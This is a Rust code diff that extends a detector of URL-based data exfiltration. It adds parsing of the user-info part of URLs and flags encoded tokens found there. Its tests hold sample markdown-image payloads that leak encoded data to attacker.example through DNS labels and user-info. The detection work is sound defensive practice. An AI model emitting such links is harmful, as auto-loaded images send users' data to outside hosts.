@@ -407,6 +407,8 @@ fn is_link_attribute(attribute: &[u8]) -> bool {
 /// The parts of a URL that can carry data.
 #[derive(Debug)]
 struct Url<'t> {
+    /// `user:password` before `@`, if any.
+    userinfo: &'t str,
     host: String,
     path: &'t str,
     query: &'t str,
@@ -418,9 +420,7 @@ fn parse_url(after_slashes: &str) -> Option<Url<'_>> {
         .find(['/', '?', '#'])
         .unwrap_or(after_slashes.len());
     let authority = &after_slashes[..auth_end];
-    let host_port = authority
-        .rsplit_once('@')
-        .map_or(authority, |(_, host)| host);
+    let (userinfo, host_port) = authority.rsplit_once('@').unwrap_or(("", authority));
     let host = if host_port.starts_with('[') {
         host_port.split_inclusive(']').next().unwrap_or(host_port)
     } else {
@@ -438,6 +438,7 @@ fn parse_url(after_slashes: &str) -> Option<Url<'_>> {
     let (rest, fragment) = rest.split_once('#').unwrap_or((rest, ""));
     let (path, query) = rest.split_once('?').unwrap_or((rest, ""));
     Some(Url {
+        userinfo,
         host,
         path,
         query,
@@ -822,6 +823,18 @@ fn strongest_signal(url: &Url<'_>, autoload: bool) -> Option<Signal> {
             what: format!("a request-capture service ({collector})"),
             evidence: (*collector).to_owned(),
         });
+    }
+    for part in url.userinfo.split(':') {
+        let part = percent_decode(part);
+        if part.len() >= 16
+            && let Some((encoding, _)) = decode_token(&part, 16, 4096)
+        {
+            offer(Signal {
+                score: 0.95,
+                what: format!("{encoding}-encoded text in the user-info"),
+                evidence: mask_secret(&part),
+            });
+        }
     }
     // Labels left of the registrable domain: DNS exfiltration encodes data there.
     let labels: Vec<&str> = url.host.split('.').collect();
@@ -1308,6 +1321,8 @@ mod tests {
         assert!(found("docs at https://webhook.site").is_empty());
         let dns = "![](https://6d616c6c6f72792d70617373776f7264.x.attacker.example/a.png)";
         assert!(only(dns).message.contains("host name"));
+        let userinfo = format!("![](https://u:{B64_CHAT}@attacker.example/a.png)");
+        assert!(only(&userinfo).message.contains("user-info"));
     }
 
     #[test]
